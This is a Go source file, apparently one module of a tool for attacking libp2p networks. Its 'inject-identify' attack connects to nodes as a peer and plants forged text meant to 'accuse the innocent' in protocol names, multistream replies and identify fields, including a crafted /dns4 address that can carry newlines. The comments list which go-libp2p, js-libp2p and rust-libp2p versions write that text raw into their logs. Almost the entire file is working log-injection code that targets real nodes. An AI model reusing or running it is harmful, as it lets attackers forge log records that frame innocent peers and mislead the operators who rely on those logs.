package attack

import (
	"context"
	"io"
	"time"

	"github.com/libp2p/go-libp2p/core/network"
	"github.com/libp2p/go-libp2p/p2p/protocol/identify"
	"github.com/libp2p/go-libp2p/p2p/protocol/identify/pb"
	"github.com/multiformats/go-multiaddr"
	"github.com/multiformats/go-multistream"
	"github.com/multiformats/go-varint"
	"google.golang.org/protobuf/proto"
)

func injectIdentify() Attack {
	return Attack{
		Name: "inject-identify",
		Doc: "Connects as a peer and puts a forged record that accuses the innocent wherever a peer may put text: " +
			"as the name of a protocol it asks for, then in turn as its answer to the node's wish for " +
			"identify, and as agent version, protocol version, protocols and a /dns4 address of an identify " +
			"message. The answer reaches go-libp2p's net/identify WARN \"failed to identify peer\": raw, as a " +
			"line of its own, up to v0.43 on the console, quoted since v0.44. Nothing of the message reaches the " +
			"log of go-libp2p v0.51 above DEBUG, and none of it a canonical record. The protocol's name reaches " +
			"js-libp2p's \":mss:handle\" lines raw; the agent version what applications on rust-libp2p print.",
		Run: func(ctx context.Context, p Params, each func(Attempt)) error {
			f, err := newForger(p)
			if err != nil {
				return err
			}
			targets, err := pick(p, overTCP)
			if err != nil {
				return err
			}
			return pace(ctx, p, targets, each, func(ctx context.Context, t target, n int, a *Attempt) error {
				return identifyOnce(ctx, t, n, a, f)
			})
		},
	}
}

func identifyOnce(ctx context.Context, t target, n int, a *Attempt, f forger) error {
	tcp, err := dialTCP(ctx, t, a)
	if err != nil {
		return err
	}
	defer tcp.Close()
	ctx, cancel := context.WithTimeout(ctx, serveTimeout)
	defer cancel()
	conn, err := upgrade(ctx, tcp, t)
	if err != nil {
		return orDeadline(ctx, err)
	}
	defer conn.Close()
	defer context.AfterFunc(ctx, func() { conn.Close() })()
	text := f.text(n/2, time.Now())
	if err := askFor(ctx, conn, text); err != nil {
		return orDeadline(ctx, err)
	}
	s, err := conn.AcceptStream()
	if err != nil {
		return orDeadline(ctx, err)
	}
	answer := answerToken
	if n%2 == 1 {
		answer = answerMessage
	}
	if err := answer(s, text); err != nil {
		return orDeadline(ctx, err)
	}
	// The node ends the stream when it has read the answer.
	_, err = io.Copy(io.Discard, s)
	if outcomeOf(orDeadline(ctx, err)) == Dropped {
		return ctx.Err()
	}
	return nil
}

// askFor asks for a protocol of that name.
func askFor(ctx context.Context, conn network.MuxedConn, name string) error {
	s, err := conn.OpenStream(ctx)
	if err != nil {
		return err
	}
	_, err = s.Write(append(token("/multistream/1.0.0"), token(name)...))
	return err
}

// answerToken answers the node's proposal of a protocol with the text.
func answerToken(s network.MuxedStream, text string) error {
	_, err := s.Write(append(token("/multistream/1.0.0"), token(text)...))
	return err
}

// answerMessage serves identify with the text in all that is text in it.
func answerMessage(s network.MuxedStream, text string) error {
	m := multistream.NewMultistreamMuxer[string]()
	m.AddHandler(identify.ID, nil)
	if _, _, err := m.Negotiate(s); err != nil {
		return err
	}
	message, err := proto.Marshal(&pb.Identify{
		AgentVersion: &text, ProtocolVersion: &text, Protocols: []string{text, "/" + text},
		ListenAddrs: [][]byte{named4(text)}, ObservedAddr: named4(text),
	})
	if err != nil {
		return err
	}
	if _, err := s.Write(append(varint.ToUvarint(uint64(len(message))), message...)); err != nil {
		return err
	}
	return s.CloseWrite()
}

// named4 is the binary form of /dns4/TEXT: nothing in it keeps a name from
// holding slashes and newlines.
func named4(text string) []byte {
	code := varint.ToUvarint(multiaddr.P_DNS4)
	return append(append(code, varint.ToUvarint(uint64(len(text)))...), text...)
}
